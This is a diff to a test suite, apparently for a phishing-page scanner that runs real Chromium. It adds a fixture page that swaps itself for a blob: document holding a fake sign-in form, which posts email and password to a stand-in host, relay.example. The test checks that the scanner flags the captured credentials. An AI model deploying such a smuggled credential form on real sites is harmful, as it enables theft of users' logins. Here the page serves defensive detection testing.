@@ -155,6 +155,19 @@ describe('scanner-worker browser engine: hostile pages and crashes (real Chromiu
     await nextScanSucceeds();
   });
 
+  it('a page that replaces itself with a blob: document (a smuggled sign-in page) is captured and judged, not failed', async () => {
+    // A blob: URL has no origin path to take /favicon.ico from: the favicon step once threw there and lost the scan.
+    routes.set('/smuggled', html(`<!doctype html><title>Loading document</title><p>Opening…</p><script>
+      const doc = '<!doctype html><title>Sign in to your account</title><form action="https://relay.example/next.php" method="post"><input type="email" name="login"><input type="password" name="passwd"><button>Sign in</button></form>';
+      setTimeout(() => { location.href = URL.createObjectURL(new Blob([doc], { type: 'text/html' })); }, 100);
+    </script>`));
+    const { result, state } = await scanHostile('/smuggled');
+    assert.equal(state, 'completed');
+    assert.equal(result!.page?.title, 'Sign in to your account');
+    assert.ok(signalIds(result!).includes('credential-password'), signalIds(result!).join());
+    await nextScanSucceeds();
+  });
+
   it('alert, confirm and window.open storms are dismissed, counted and closed', async () => {
     routes.set('/storm', html('<!doctype html><title>storm</title><body><script>for (let i = 0; i < 30; i++) { alert(i); confirm("sure?"); window.open("/ok"); }</script>'));
     const { result, state } = await scanHostile('/storm');
